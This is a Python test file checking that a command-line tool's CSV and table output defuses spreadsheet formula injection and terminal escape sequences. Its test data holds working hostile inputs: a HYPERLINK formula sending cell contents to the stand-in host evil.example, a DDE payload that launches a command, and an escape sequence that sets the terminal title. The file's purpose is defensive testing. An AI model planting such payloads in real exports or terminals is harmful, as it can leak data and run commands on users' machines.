"""What is printed for people: a terminal obeys nothing of it, and a spreadsheet computes nothing."""

from __future__ import annotations

import csv
import io

import pytest

from worker import spreadsheet
from worker.cli.consoles import PlainConsole, shown
from worker.cli.printing import Form, print_lines
from worker.errors import ConfigError

TITLE = "\x1b]0;owned\x07"


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("https://evil.example/?"&A1)', "@SUM(A1)", "+cmd|' /C calc'!A0", "\t=1", "＝1"]
)
def test_what_a_producer_wrote_is_no_formula(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A decrypted value that a spreadsheet would compute is a text in it; whoever writes to the topic chose it."""
    print_lines(iter([{"offset": 7, "key": text, "value": {"email": text}}]), Form.CSV)

    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert (row["key"], row["email"]) == (f"'{text}", f"'{text}")


@pytest.mark.parametrize("text", ["+49 30 1234-5", "-1.50", "(+47) 22", "ann@example.com", "a=b", ""])
def test_numbers_and_words_stay_as_they_are(text: str) -> None:
    """Telephone numbers and amounts compute nothing."""
    assert spreadsheet.cell(text) == text


def test_a_table_s_cell_moves_no_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    """Escapes of seven and eight bits, and what turns the direction of a line, are written out."""
    print_lines(iter([{"value": {"name": f"{TITLE}Ann\x9b31m\u202e"}}]), Form.TABLE)

    said = capsys.readouterr().out
    assert r"\x1b]0;owned\x07Ann\x9b31m\u202e" in said
    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(said)


def test_an_error_moves_no_terminal() -> None:
    """What a service answered stands in errors; a service that was taken over writes no titles and no links."""
    out = io.StringIO()

    PlainConsole(file=out, markup=False, width=80).print(f"{ConfigError(TITLE)}")

    assert out.getvalue() == shown(TITLE) + "\n" == "\\x1b]0;owned\\x07\n"
